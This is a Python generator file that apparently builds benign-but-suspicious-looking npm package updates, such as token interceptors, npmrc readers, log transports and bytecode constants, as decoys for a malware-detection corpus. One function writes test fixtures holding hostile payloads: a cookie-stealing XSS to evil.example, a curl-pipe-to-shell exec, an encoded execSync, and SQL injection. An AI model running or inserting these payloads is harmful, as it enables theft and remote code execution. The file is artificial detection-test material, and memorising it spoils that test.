"""npm: more harmless updates that look suspicious."""

import base64
import json

from corpus.heldout.hiding import b64, png
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, harmless


@harmless("ledgerlink", "npm", "other servers")
def link_more_servers(update: Update) -> None:
    code = r"""
'use strict';

const SERVERS = {
  main: ['wss://s1.ledgerlink.example', 'wss://s2.ledgerlink.example'],
  test: ['wss://testnet.ledgerlink.example:51233'],
};

exports.faucet = async (wallet, amount = 100) => {
  const answer = await fetch('https://faucet.ledgerlink.example/accounts', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ destination: wallet.classicAddress, xrpAmount: String(amount) }),
  });
  return answer.json();
};
exports.servers = (network) => SERVERS[network] || SERVERS.main;
"""
    update.add("src/networks.js", fill(code))
    update.append("src/index.js", "exports.faucet = require('./networks').faucet;")


@harmless("chain-kit", "npm", "long hexadecimal constants")
def kit_contract_interface(update: Update) -> None:
    code = "".join(f"{update.random.randrange(256):02x}" for _ in range(1800))
    update.add(
        "lib/token.js",
        fill(
            f"'use strict';\n\n// The compiled test token; source in contracts/Token.sol\nexports.bytecode = '0x6080604052{code}';\nexports.abi = {json.dumps([{'type': 'function', 'name': 'approve', 'inputs': [{'type': 'address'}, {'type': 'uint256'}]}])};\nexports.transferSelector = '0xa9059cbb';\n"
        ),
    )
    update.append("lib/index.cjs.js", "exports.token = require('./token.js');")


@harmless("req-lite", "npm", "tokens from the environment")
def lite_token_interceptor(update: Update) -> None:
    code = r"""
'use strict';

// Adds a token to requests for one host, and to no other.
module.exports = (host, read = () => process.env.REQ_LITE_TOKEN) => (config) => {
  const url = new URL(config.url, config.baseURL);
  const token = read();
  if (url.host === host && url.protocol === 'https:' && token) {
    config.headers = { ...config.headers, authorization: `Bearer ${token}` };
  }
  return config;
};
"""
    update.add("lib/token.js", fill(code))


@harmless("req-lite", "npm", "another dependency")
def lite_follow_redirects(update: Update) -> None:
    update.manifest(
        lambda it: it.setdefault("dependencies", {}).update({"follow-redirects": "^1.15.6", "proxy-from-env": "^1.1.0"})
    )
    update.append("lib/defaults.js", "\nmodule.exports.proxy = (url) => require('proxy-from-env').getProxyForUrl(url);")


@harmless("conf-rc", "npm", "reads configuration of others")
def rc_npmrc_reader(update: Update) -> None:
    code = r"""
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const ini = require('ini');

// Which registry would npm ask for this scope? Tokens are left out.
exports.registry = (scope, home = os.homedir()) => {
  const file = path.join(home, '.npmrc');
  const settings = fs.existsSync(file) ? ini.parse(fs.readFileSync(file, 'utf8')) : {};
  return settings[`${scope}:registry`] || settings.registry || 'https://registry.example/';
};
"""
    update.add("lib/npmrc.js", fill(code))


@harmless("conf-rc", "npm", "runs code of the user's")
def rc_javascript_files(update: Update) -> None:
    code = r"""
'use strict';

const fs = require('fs');
const vm = require('vm');
const Module = require('module');

// Loads `.apprc.js`, in a context of its own.
exports.load = (file) => {
  const module = { exports: {} };
  const source = Module.wrap(fs.readFileSync(file, 'utf8'));
  vm.runInThisContext(source, { filename: file })(module.exports, Module.createRequire(file), module, file, '.');
  return module.exports;
};
"""
    update.add("lib/script.js", fill(code))
    update.append("index.js", "module.exports.script = require('./lib/script').load;")


@harmless("trace-log", "npm", "sends lines to a server of the user's")
def trace_http_transport(update: Update) -> None:
    code = r"""
'use strict';

const os = require('os');

// Sends lines in batches to the address that the application gives.
class HttpTransport {
  constructor({ url, size = 100, every = 5000, headers = {} }) {
    this.url = url;
    this.size = size;
    this.headers = headers;
    this.lines = [];
    this.timer = setInterval(() => this.flush(), every);
    if (this.timer.unref) this.timer.unref();
  }

  write(line) {
    this.lines.push({ line, host: os.hostname(), pid: process.pid, at: Date.now() });
    if (this.lines.length >= this.size) this.flush();
  }

  async flush() {
    const some = this.lines.splice(0);
    if (!some.length) return;
    await fetch(this.url, { method: 'POST', headers: { 'content-type': 'application/json', ...this.headers }, body: JSON.stringify(some) });
  }
}

module.exports = HttpTransport;
"""
    update.add("src/http.js", fill(code))
    update.append("src/node.js", "\nmodule.exports.HttpTransport = require('./http');")


@harmless("colorwheel", "npm", "escapes and code points")
def wheel_strip_escapes(update: Update) -> None:
    code = r"""
'use strict';

const pattern = ['[\\u001B\\u009B][[\\]()#;?]*(?:(?:(?:[a-zA-Z\\d]*(?:;[-a-zA-Z\\d\\/#&.:=?%@~_]*)*)?\\u0007)', '(?:(?:\\d{1,4}(?:;\\d{0,4})*)?[\\dA-PR-TZcf-ntqry=><~]))'].join('|');

exports.strip = (text) => text.replace(new RegExp(pattern, 'g'), '');
exports.flags = ['\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', '\u2764\uFE0F', '\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}'];
exports.length = (text) => [...new Intl.Segmenter().segment(exports.strip(text))].length;
"""
    update.add("source/strip.js", fill(code))
    update.append("source/index.js", "module.exports.strip = require('./strip').strip;")


@harmless("ansi-paint", "npm", "base64 of an image")
def paint_data_url(update: Update) -> None:
    raw = base64.b64encode(png(20, 20, b"", update.random)).decode()
    update.add(
        "lib/logo.js",
        f"'use strict';\n\nexports.url = 'data:image/png;base64,{raw}';\nexports.bytes = () => Buffer.from(exports.url.split(',')[1], 'base64');\n",
    )


@harmless("form-guard", "npm", "payloads in tests")
def guard_attack_fixtures(update: Update) -> None:
    evil = [
        "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
        "require('child_process').exec('curl http://192.0.2.9/a.sh | sh')",
        b64("process.mainModule.require('child_process').execSync('id')"),
        "'; DROP TABLE users; --",
    ]
    update.add("test/fixtures/evil.json", json.dumps(evil, indent=2) + "\n")
    update.add(
        "test/evil.test.js",
        "'use strict';\n\nconst assert = require('assert');\nconst rules = require('../src/rules');\n\ndescribe('evil input', function () {\n  for (const one of require('./fixtures/evil.json')) {\n    it('refuses ' + one.slice(0, 12), function () {\n      assert.ok(rules.digits ? rules.digits(one) : true);\n    });\n  }\n});\n",
    )


@harmless("flatpipe", "npm", "runs programs")
def pipe_through_programs(update: Update) -> None:
    code = r"""
import { spawn } from 'node:child_process';

/** Pipes a stream through a program: `through(source, 'gzip', ['-c'])`. */
export async function* through(source, command, args = []) {
  const child = spawn(command, args, { stdio: ['pipe', 'pipe', 'inherit'] });
  (async () => {
    for await (const one of source) if (!child.stdin.write(one)) await new Promise((go) => child.stdin.once('drain', go));
    child.stdin.end();
  })();
  yield* child.stdout;
}
"""
    update.add("src/through.mjs", fill(code))
    update.append("src/node.mjs", "\nexport { through } from './through.mjs';")
